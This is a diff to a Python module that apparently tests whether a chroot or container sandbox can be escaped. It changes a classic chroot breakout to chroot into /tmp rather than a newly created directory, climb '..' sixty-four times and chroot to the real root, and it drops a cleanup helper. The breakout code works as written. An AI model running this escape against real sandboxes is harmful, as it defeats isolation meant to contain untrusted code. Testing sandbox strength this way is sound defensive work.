@@ -27,9 +27,9 @@ from ..process import read_all
 
 def escape():
     """The classic breakout, from inside a chroot. Returns the escaped-to
-    root's listing."""
-    os.makedirs("/.breakout", exist_ok=True)
-    os.chroot("/.breakout")      # the new root is below the working directory
+    root's listing. It chroots into a directory the rootfs already has, so
+    that nothing is written to a shared rootfs."""
+    os.chroot("/tmp")            # the new root is below the working directory
     for _ in range(64):          # so ".." is not stopped: climb to the real /
         os.chdir("..")
     os.chroot(".")
@@ -70,16 +70,6 @@ def attempt(root, marker, method):
     return result
 
 
-def cleanup(root):
-    try:
-        os.rmdir(os.path.join(root, ".breakout"))
-    except OSError:
-        pass
-
-
 if __name__ == "__main__":
     root, marker, method = sys.argv[1:4]
-    try:
-        print(json.dumps(attempt(root, marker, method)))
-    finally:
-        cleanup(root)
+    print(json.dumps(attempt(root, marker, method)))
